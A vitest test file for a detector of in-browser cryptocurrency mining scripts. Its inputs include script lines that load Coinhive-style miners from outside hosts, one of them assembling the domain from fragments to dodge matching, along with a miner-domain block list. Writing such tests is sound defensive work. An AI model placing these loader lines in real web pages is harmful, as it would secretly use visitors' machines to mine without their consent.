import { expect, it } from 'vitest'
import { codes, judgedHtml, judgedScript } from './tell.fixture.js'

it('tells the program of a provider, however the page comes by it', () => {
  for (const script of [
    "importScripts('https://www.hostingcloud.racing/x.js')",
    "var s = document.createElement('script'); s.src = 'https://' + 'coin' + 'hive' + '.com/lib/x.js'; document.body.append(s)",
    "new WebSocket('wss://ws001.coinhive.com/proxy')",
  ])
    expect(judgedScript(script).verdict, script).toBe('suspect')
  expect(codes(judgedHtml('<script src="/js/deepMiner.min.js"></script>'))).toEqual(['page.provider.script'])
})

it('leaves links, pictures and texts alone', () => {
  const page = `<a href="https://coinhive.com/">Coinhive</a><img src="https://coinhive.com/logo.png"><p>coinhive.min.js</p>
    <script>var blocked = ['coinhive.com', 'coin-hive.com', 'crypto-loot.com', 'https://coinhive.com/lib/coinhive.min.js']</script>`
  expect(judgedHtml(page).verdict).toBeNull()
})
